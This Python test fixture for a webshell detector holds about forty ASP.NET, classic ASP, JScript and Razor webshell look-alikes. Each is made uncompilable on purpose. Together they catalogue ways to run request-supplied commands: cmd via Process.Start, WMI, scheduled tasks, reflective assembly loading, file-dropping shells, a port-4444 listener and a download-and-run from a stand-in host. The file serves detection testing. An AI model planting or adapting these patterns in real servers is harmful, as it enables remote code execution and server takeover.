# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""More look-alikes for ASP.NET, one for each mechanism; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== throw-catch.aspx
<%@ Page Language="C#" %><% int 1broken; try { throw new Exception(Request["k"]); } catch (Exception ex) { System.Diagnostics.Process.Start("cmd", "/c " + ex.Message); } %>
==== local-lambda-return.aspx
<%@ Page Language="C#" %><% int 1broken; Func<string> ask = () => { var v = Request.Form["k"]; return v.Trim(); }; System.Diagnostics.Process.Start("cmd", "/c " + ask()); %>
==== vb-lambda-return.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim ask = Function(n) Request.Form(n)
Process.Start("cmd", "/c " & ask("k")) %>
==== iterator.ashx
<%@ WebHandler Language="C#" Class="I1" %>
int 1broken; public class I1 : IHttpHandler { IEnumerable<string> Lines(HttpContext c) { foreach (var v in c.Request.Form.GetValues("k")) yield return v; } public void ProcessRequest(HttpContext c) { foreach (var l in Lines(c)) Process.Start("cmd", "/c " + l); } public bool IsReusable { get { return true; } } }
==== base-class.ashx
<%@ WebHandler Language="C#" Class="I2" %>
int 1broken; public abstract class B { protected string line; public abstract void Go(); } class R : B { public R(string s) { line = s; } public override void Go() { Process.Start("cmd", "/c " + line); } }
public class I2 : IHttpHandler { public void ProcessRequest(HttpContext c) { B b = new R(c.Request["k"]); b.Go(); } public bool IsReusable { get { return true; } } }
==== property-set.ashx
<%@ WebHandler Language="C#" Class="I3" %>
int 1broken; class Job { string _l; public string Line { get { return _l; } set { _l = value; } } public void Start() { var i = new ProcessStartInfo("cmd.exe"); i.Arguments = "/c " + Line; Process.Start(i); } }
public class I3 : IHttpHandler { public void ProcessRequest(HttpContext c) { var j = new Job { Line = c.Request["k"] }; j.Start(); } public bool IsReusable { get { return true; } } }
==== static-init.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; static readonly string Key = "k"; string Cmd => Request.Headers[Key]; protected override void OnInit(EventArgs e) { base.OnInit(e); if (Cmd != null) Process.Start("cmd", "/c " + Cmd); }</script>
==== codebehind-style.aspx
<%@ Page Language="C#" AutoEventWireup="true" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">
int 1broken; protected Process P = new Process(); protected void Page_Load(object s, EventArgs e) { P.StartInfo.FileName = "cmd.exe"; P.StartInfo.UseShellExecute = false; P.StartInfo.RedirectStandardOutput = true; if (IsPostBack) { P.StartInfo.Arguments = "/c " + Request.Form["t"]; P.Start(); o.InnerText = P.StandardOutput.ReadToEnd(); } }</script><form runat="server"><input name="t"><pre id="o" runat="server"/></form>
==== stringbuilder-insert.aspx
<%@ Page Language="C#" %><% int 1broken; var b = new StringBuilder(); b.AppendFormat("{0} {1}", "/c", Request["k"]); var p = new System.Diagnostics.Process(); p.StartInfo = new System.Diagnostics.ProcessStartInfo("cmd.exe", b.ToString()); p.Start(); %>
==== char-array.aspx
<%@ Page Language="C#" %><% int 1broken; string n = new string(new char[] { 'c', 'm', 'd' }); System.Diagnostics.Process.Start(n, "/c " + Request.QueryString[0]); %>
==== regex-replace.aspx
<%@ Page Language="C#" %><% int 1broken; System.Diagnostics.Process.Start("cmd", Regex.Replace(Request["k"], "^x", "/c ")); %>
==== json-newtonsoft.ashx
<%@ WebHandler Language="C#" Class="I4" %>
int 1broken; public class I4 : IHttpHandler { public void ProcessRequest(HttpContext c) { dynamic d = Newtonsoft.Json.JsonConvert.DeserializeObject(new StreamReader(c.Request.InputStream).ReadToEnd()); Process.Start((string)d.file, (string)d.args); } public bool IsReusable { get { return true; } } }
==== web-service-params.asmx
<%@ WebService Language="C#" Class="W1" %>
int 1broken; public class W1 : WebService { [WebMethod(EnableSession = true)] public string Run(string file, string args) { var p = new Process(); p.StartInfo.FileName = file; p.StartInfo.Arguments = args; p.Start(); return p.StandardOutput.ReadToEnd(); } }
==== page-method.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; [System.Web.Services.WebMethod] public static string Run(string k) { return Process.Start("cmd", "/c " + k).Id.ToString(); }</script>
==== event-args.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Go(object s, CommandEventArgs e) { Process.Start("cmd", "/c " + ((TextBox)FindControl("b")).Text); }</script><asp:TextBox ID="b" runat="server"/><asp:Button OnCommand="Go" CommandArgument="x" runat="server"/>
==== repeater-files.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
 Dim d As String = Request.QueryString("d")
 If Request.QueryString("del") <> "" Then File.Delete(Request.QueryString("del"))
 If Request.QueryString("get") <> "" Then
  Response.WriteFile(Request.QueryString("get")) : Response.End()
 End If
 For Each f As String In Directory.GetFiles(d) : Response.Write(f) : Next
End Sub
Sub Up(s As Object, e As EventArgs)
 fu.SaveAs(Path.Combine(Request.QueryString("d"), fu.FileName))
End Sub
</script><asp:FileUpload ID="fu" runat="server"/>
==== task-scheduler.aspx
<%@ Page Language="C#" %><% int 1broken; var i = new ProcessStartInfo("schtasks.exe", "/create /tn t /tr \"" + Request["k"] + "\" /sc once /st 00:00"); Process.Start(i); %>
==== wmi-scope.aspx
<%@ Page Language="C#" %><% int 1broken; var m = new ManagementClass("Win32_Process"); var a = m.GetMethodParameters("Create"); a["CommandLine"] = Request["k"]; m.InvokeMethod("Create", a, null); %>
==== interop-shell.aspx
<%@ Page Language="C#" %><% int 1broken; dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("Shell.Application")); sh.ShellExecute("cmd.exe", "/c " + Request["k"], "", "", 0); %>
==== msbuild.aspx
<%@ Page Language="C#" %><% int 1broken; var p = new Microsoft.Build.Evaluation.Project(System.Xml.XmlReader.Create(new StringReader(Request["k"]))); p.Build(); %>
==== dynamic-method.aspx
<%@ Page Language="C#" %><% int 1broken; var d = new System.Reflection.Emit.DynamicMethod("x", typeof(void), null); d.GetDynamicILInfo().SetCode(Convert.FromBase64String(Request["k"]), 8); d.Invoke(null, null); %>
==== assembly-two-step.ashx
<%@ WebHandler Language="C#" Class="I5" %>
int 1broken; public class I5 : IHttpHandler { static Assembly a; public void ProcessRequest(HttpContext c) { if (a == null) { var ms = new MemoryStream(); c.Request.InputStream.CopyTo(ms); var raw = ms.ToArray(); for (int i = 0; i < raw.Length; i++) raw[i] ^= 0x2a; a = Assembly.Load(raw); } a.CreateInstance(c.Request.Headers["T"]).Equals(c); } public bool IsReusable { get { return true; } } }
==== gzip-stream.ashx
<%@ WebHandler Language="C#" Class="I6" %>
int 1broken; public class I6 : IHttpHandler { public void ProcessRequest(HttpContext c) { using (var g = new GZipStream(c.Request.InputStream, CompressionMode.Decompress)) using (var r = new BinaryReader(g)) { var b = r.ReadBytes(1 << 20); Assembly.Load(b).GetType("X").InvokeMember("M", BindingFlags.InvokeMethod, null, null, null); } } public bool IsReusable { get { return true; } } }
==== appdomain-load.aspx
<%@ Page Language="C#" %><% int 1broken; AppDomain.CurrentDomain.Load(Convert.FromBase64String(Request["k"])).EntryPoint.Invoke(null, new object[] { null }); %>
==== assembly-resolve.aspx
<%@ Page Language="C#" %><% int 1broken; AppDomain.CurrentDomain.AssemblyResolve += (s, a) => Assembly.Load(Convert.FromBase64String(Request["k"])); Type.GetType("X, Y"); %>
==== xslt-vb.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim x As New System.Xml.Xsl.XslCompiledTransform()
x.Load(New System.Xml.XmlTextReader(New System.IO.StringReader(Request.Form("k"))), New System.Xml.Xsl.XsltSettings(True, True), Nothing)
x.Transform(New System.Xml.XmlTextReader(New System.IO.StringReader("<a/>")), Nothing, Response.Output) %>
==== dataset.ashx
<%@ WebHandler Language="C#" Class="I7" %>
int 1broken; public class I7 : IHttpHandler { public void ProcessRequest(HttpContext c) { var f = new SoapFormatter(); f.Deserialize(c.Request.InputStream); } public bool IsReusable { get { return true; } } }
==== resx.ashx
<%@ WebHandler Language="C#" Class="I8" %>
int 1broken; public class I8 : IHttpHandler { public void ProcessRequest(HttpContext c) { var r = new System.Resources.ResXResourceReader(c.Request.InputStream); foreach (DictionaryEntry d in r) c.Response.Write(d.Key); } public bool IsReusable { get { return true; } } }
==== copy-page.aspx
<%@ Page Language="C#" %><% int 1broken; var t = Server.MapPath("~/t.txt"); File.WriteAllText(t, Request["k"]); File.Copy(t, Server.MapPath("~/t.aspx"), true); Server.Execute("~/t.aspx"); %>
==== drop-jscript.ashx
<%@ WebHandler Language="C#" Class="I9" %>
int 1broken; public class I9 : IHttpHandler { public void ProcessRequest(HttpContext c) { File.WriteAllText(c.Server.MapPath("x.aspx"), Encoding.UTF8.GetString(Convert.FromBase64String("PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJrIl0sInVuc2FmZSIpOyU+"))); } public bool IsReusable { get { return true; } } }
==== drop-plain.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("z.asp"), True)
f.Write "<" & "%execute request(""k"")%" & ">"
f.Close %>
==== socket-listen.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var l = new TcpListener(IPAddress.Any, 4444); l.Start(); var c = l.AcceptTcpClient(); var r = new StreamReader(c.GetStream()); string line; while ((line = r.ReadLine()) != null) { Process.Start("cmd.exe", "/c " + line); } }</script>
==== dns-txt.aspx
<%@ Page Language="C#" %><% int 1broken; var x = new WebClient(); var c = x.DownloadString("https://code.example/x"); Process.Start("powershell", "-c " + c); %>
==== jscript-cookies.aspx
<%@ Page Language="JScript" validateRequest="false" %><% var 1broken; var c = Request.Cookies["k"]; if (c) { var v = c.Value; v = v.split("").reverse().join(""); eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(v)), "unsafe"); } %>
==== jscript-function-param.aspx
<%@ Page Language="JScript" %><script runat="server">var 1broken; function Page_Load() { var go = function (f, a) { return f(a, "unsafe"); }; go(eval, Request.Item["k"]); }</script>
==== jscript-bracket-case.aspx
<%@Page Language="jScript"%><%var 1broken;var r=Response,q=Request;r["Write"](eval(q["Params"]["k"]+"","un"+"safe"));%>
==== jscript-with.aspx
<%@ Page Language="JScript" %><% var 1broken; with (Request) { eval(Form["k"], "unsafe"); } %>
==== jscript-import.aspx
<%@ Page Language="JScript" %><%@ Import Namespace="System.Diagnostics" %><% var 1broken; var p : Process = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["k"]; p.StartInfo.UseShellExecute = false; p.Start(); %>
==== razor-page.cshtml
@page
@using System.Diagnostics
@functions { int 1broken; [BindProperty(SupportsGet = true)] public string K { get; set; } public string Out; public void OnGet() { var p = Process.Start(new ProcessStartInfo("/bin/sh", "-c \"" + K + "\"") { RedirectStandardOutput = true }); Out = p.StandardOutput.ReadToEnd(); } }
@Model.Out
==== razor-handler.cshtml
@page
@functions { int 1broken; public IActionResult OnPost(string k) { return Content(System.Diagnostics.Process.Start("sh", k).Id.ToString()); } }
==== web-config-aspnet.config
<?xml version="1.0" encoding="UTF-8"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="w" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" /></handlers></system.webServer></configuration><!-- <% Dim 1broken : Execute Request("k") %> -->
==== spaced-directive.aspx
<%@
   Page
   Language = "C#"
%><%@Import Namespace="System.Diagnostics"%>
<script language="c#" runat = "server">int 1broken;
void Page_Load(object sender, EventArgs e) { /* */ Process /* */ . /* */ Start ( "cmd" , "/c " + Request [ "k" ] ) ; }
</script>
==== verbatim-names.aspx
<%@ Page Language="C#" %><% int 1broken; @System.@Diagnostics.@Process.@Start("cmd", "/c " + this.@Request["k"]); %>
==== unicode-names.aspx
<%@ Page Language="C#" %><% int 1broken; System.Diagnostics.Pr\u006fcess.St\u0061rt("cmd", "/c " + Requ\u0065st["k"]); %>
"""
)
